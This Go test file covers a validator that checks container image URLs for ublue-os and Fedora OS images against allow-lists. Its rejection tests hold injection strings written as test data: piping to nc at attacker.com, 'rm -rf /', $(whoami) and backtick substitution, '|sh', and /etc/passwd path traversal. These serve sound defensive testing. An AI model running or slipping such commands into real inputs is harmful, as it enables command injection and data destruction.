package validate

import (
	"errors"
	"strings"
	"testing"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"
)

func TestValidateImageURLAllowed(t *testing.T) {
	valid := []string{
		"ghcr.io/ublue-os/bluefin:latest",
		"ghcr.io/ublue-os/aurora:stable",
		"ghcr.io/ublue-os/bazzite:39",
		"ghcr.io/ublue-os/bluefin-dx-nvidia:stable-20240722",
		"quay.io/fedora-ostree-desktop/silverblue:40",
		"registry.fedoraproject.org/fedora/fedora-silverblue:latest",
		"ostree-image-signed:docker://ghcr.io/ublue-os/bluefin:stable",
		"ostree-unverified-registry:quay.io/fedora/fedora-kinoite:41",
		"ghcr.io/ublue-os/bluefin",
	}
	for _, url := range valid {
		t.Run(url, func(t *testing.T) {
			assert.NoError(t, ValidateImageURL(url))
		})
	}
}

func TestValidateImageURLRejected(t *testing.T) {
	tests := []struct {
		url     string
		wantErr error
		reason  string
	}{
		{url: "docker.io/malicious/image:latest", wantErr: ErrRegistryNotAllowed, reason: "not allowed"},
		{url: "localhost:5000/local/image:latest", wantErr: ErrRegistryNotAllowed, reason: "not allowed"},
		{url: "192.168.1.1/private/image:latest", wantErr: ErrRegistryNotAllowed, reason: "not allowed"},
		{url: "ghcr.io/other-org/image:latest", wantErr: ErrRegistryNotAllowed, reason: "allowed registry"},
		{url: "ghcr.io/ublue-os/malicious:latest", wantErr: ErrImageNotAllowed, reason: "not allowed"},
		{url: "ghcr.io/ublue-os/custom-image:latest", wantErr: ErrImageNotAllowed, reason: "not allowed"},
		{url: "quay.io/fedora-ostree-desktop/custom:latest", wantErr: ErrImageNotAllowed, reason: "not allowed"},
		{url: "ghcr.io/ublue-os/sub/bluefin:latest", wantErr: ErrImageNotAllowed, reason: "not allowed"},
		{url: "ghcr.io/ublue-os/bluefin:", wantErr: ErrInvalidTag, reason: "Invalid tag format"},
		{url: "ghcr.io/ublue-os/bluefin:.hidden", wantErr: ErrInvalidTag, reason: "Invalid tag format"},
		{url: "ghcr.io/ublue-os/bluefin:../../etc", wantErr: ErrSuspiciousPattern, reason: "suspicious pattern"},
		{url: "ghcr.io/ublue-os/../../etc/passwd:latest", wantErr: ErrSuspiciousPattern, reason: "suspicious pattern"},
		{url: "ghcr.io/ublue-os//bluefin:latest", wantErr: ErrSuspiciousPattern, reason: "suspicious pattern"},
		{url: "http://evil.com/image:latest", wantErr: ErrSuspiciousPattern, reason: "suspicious pattern"},
		{url: "ghcr.io/ublue-os/Bluefin:latest", wantErr: ErrInvalidReference, reason: "Invalid image reference"},
	}
	for _, tt := range tests {
		t.Run(tt.url, func(t *testing.T) {
			err := ValidateImageURL(tt.url)
			require.Error(t, err)
			assert.True(t, errors.Is(err, tt.wantErr), "got %v", err)
			assert.Contains(t, err.Error(), tt.reason)
		})
	}
}

func TestValidateImageURLSuspiciousPatterns(t *testing.T) {
	suspicious := []string{
		"ghcr.io/ublue-os/bluefin:latest; echo pwned",
		"ghcr.io/ublue-os/bluefin:latest | nc attacker.com",
		"ghcr.io/ublue-os/bluefin:latest && rm -rf /",
		"ghcr.io/ublue-os/bluefin:$(whoami)",
		"ghcr.io/ublue-os/bluefin:${VERSION}",
		"ghcr.io/ublue-os/bluefin:`id`",
		"ghcr.io/ublue-os/bluefin:latest\nrm -rf /",
		"ghcr.io/ublue-os/bluefin:latest\trm -rf /",
		"ghcr.io/ublue-os/bluefin:latest rm -rf /",
		"ghcr.io/ublue-os/bluefin:latest\\command",
		"ghcr.io/ublue-os/bluefin:v1.0>file",
		"ghcr.io/ublue-os/bluefin:v1.0<input",
		// Metacharacters win over an otherwise disallowed registry.
		"docker.io/evil/image:latest;reboot",
		"ghcr.io/ublue-os/" + strings.Repeat("a", 600) + ":latest|sh",
	}
	for _, url := range suspicious {
		t.Run(url, func(t *testing.T) {
			err := ValidateImageURL(url)
			assert.True(t, errors.Is(err, ErrSuspiciousPattern), "got %v", err)
			assert.Contains(t, err.Error(), "suspicious pattern")
		})
	}
}

func TestValidateImageURLLengthLimit(t *testing.T) {
	err := ValidateImageURL("ghcr.io/ublue-os/" + strings.Repeat("a", 500) + ":latest")
	assert.True(t, errors.Is(err, ErrImageURLTooLong))
	assert.Contains(t, err.Error(), "too long")
}

func TestParse(t *testing.T) {
	ref, err := defaultImageValidator.Parse("ostree-image-signed:docker://ghcr.io/ublue-os/bazzite-deck:testing")
	require.NoError(t, err)
	assert.Equal(t, ImageRef{
		Transport: "ostree-image-signed:docker://",
		Registry:  "ghcr.io",
		Org:       "ublue-os",
		Image:     "bazzite-deck",
		Tag:       "testing",
	}, ref)
	assert.Equal(t, "ghcr.io/ublue-os/bazzite-deck", ref.Name())
	assert.Equal(t, "ostree-image-signed:docker://ghcr.io/ublue-os/bazzite-deck:testing", ref.String())
}

func TestCustomAllowList(t *testing.T) {
	v := NewImageValidator(map[string][]string{"ghcr.io/example": {"os"}})
	assert.NoError(t, v.ValidateImageURL("ghcr.io/example/os:1.0"))
	assert.True(t, errors.Is(v.ValidateImageURL("ghcr.io/ublue-os/bluefin:latest"), ErrRegistryNotAllowed))
}

func TestSplitTag(t *testing.T) {
	tests := []struct {
		in, name, tag string
		ok            bool
	}{
		{in: "ghcr.io/ublue-os/bluefin:stable", name: "ghcr.io/ublue-os/bluefin", tag: "stable", ok: true},
		{in: "localhost:5000/local/image", name: "localhost:5000/local/image"},
		{in: "localhost:5000/local/image:1", name: "localhost:5000/local/image", tag: "1", ok: true},
		{in: "bluefin:", name: "bluefin", ok: true},
	}
	for _, tt := range tests {
		name, tag, ok := splitTag(tt.in)
		assert.Equal(t, tt.name, name, tt.in)
		assert.Equal(t, tt.tag, tag, tt.in)
		assert.Equal(t, tt.ok, ok, tt.in)
	}
}
